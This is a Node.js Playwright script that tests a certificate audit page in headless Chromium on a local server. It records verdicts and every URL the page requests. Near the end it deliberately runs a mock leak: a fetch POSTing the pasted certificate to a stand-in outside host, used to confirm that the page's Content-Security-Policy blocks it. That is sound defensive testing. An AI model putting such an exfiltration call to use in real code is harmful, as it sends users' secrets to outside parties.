// Drives the audit page in Debian's chromium (headless, no sandbox, background networking off)
// on a loopback server: pastes the policy and each certificate, reads what the page shows.
// Usage: node audit_page.mjs WEB_DIR CASES_JSON SCREENSHOT_PNG
// CASES_JSON: {"policy": "...", "host": "...", "cases": [{"name": "...", "certificate": "...", "method": "", "path": ""}]}
// Prints one JSON line: {"results": [{"name", "verdict", "reason", "checks", "json", "error"}],
// "requests": [...every URL the page asked for...], "outside_fetch": {"fetched", "violation"}}
// where outside_fetch is the page itself trying to send something elsewhere (its
// Content-Security-Policy must stop it).
import { createServer } from "node:http";
import { readFile } from "node:fs/promises";
import { extname, join, normalize } from "node:path";
import { chromium } from "playwright-core";

const [webDir, casesPath, screenshot] = process.argv.slice(2);
const input = JSON.parse(await readFile(casesPath, "utf8"));
const types = { ".html": "text/html", ".js": "text/javascript", ".wasm": "application/wasm", ".css": "text/css" };

const server = createServer(async (req, res) => {
  const path = normalize(decodeURIComponent(new URL(req.url, "http://x").pathname)).replace(/^\/+/, "");
  try {
    const body = await readFile(join(webDir, path || "index.html"));
    res.writeHead(200, { "content-type": types[extname(path || "index.html")] ?? "application/octet-stream" });
    res.end(body);
  } catch {
    res.writeHead(404);
    res.end();
  }
});
await new Promise((ok) => server.listen(0, "127.0.0.1", ok));
const origin = `http://127.0.0.1:${server.address().port}`;

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
  args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync"],
});
const requests = [];
const results = [];
try {
  const page = await browser.newPage({ viewport: { width: 1280, height: 1400 } });
  page.on("request", (r) => requests.push(r.url()));
  // The page's own errors go to stderr, so a failed run says why.
  page.on("console", (m) => { if (m.type() === "error") console.error(`page console: ${m.text()}`); });
  page.on("pageerror", (e) => console.error(`page error: ${e.message}`));
  await page.goto(`${origin}/index.html`);
  await page.waitForSelector("#run:not([disabled])", { timeout: 30000 });
  await page.fill("#policy", input.policy);
  await page.fill("#host", input.host ?? "");
  for (const c of input.cases) {
    await page.fill("#certificate", c.certificate);
    await page.fill("#method", c.method ?? "");
    await page.fill("#path", c.path ?? "");
    await page.click("#run");
    await page.waitForSelector("#output .verdict, #output .error", { timeout: 10000 });
    const error = await page.$eval("#output", (o) => o.querySelector(".error")?.textContent ?? null);
    const verdict = await page.$$eval(".verdict", (v) => v.map((n) => ({
      verdict: n.dataset.verdict, reason: n.dataset.reason })));
    const checks = await page.$$eval("table:first-of-type tbody tr", (rows) =>
      rows.map((r) => [...r.children].map((td) => td.textContent)));
    const json = await page.$eval("#output", (o) => o.querySelector("#json")?.textContent ?? null);
    results.push({ name: c.name, verdict: verdict[0]?.verdict ?? null, reason: verdict[0]?.reason ?? null,
      checks, json: json ? JSON.parse(json) : null, error });
    if (c.screenshot) await page.screenshot({ path: screenshot, fullPage: true });
  }
  // What a compromised script on the page could try: send the pasted certificate elsewhere.
  const outsideFetch = await page.evaluate(async () => {
    let violation = null;
    document.addEventListener("securitypolicyviolation", (e) => { violation = e.violatedDirective; });
    let fetched = false;
    try {
      await fetch("http://198.51.100.7/leak", { method: "POST", body: "certificate" });
      fetched = true;
    } catch {
      // Refused, as the policy says.
    }
    await new Promise((done) => setTimeout(done, 200));
    return { fetched, violation };
  });
  console.log(JSON.stringify({ results, requests, outside_fetch: outsideFetch }));
} finally {
  await browser.close();
  server.close();
}
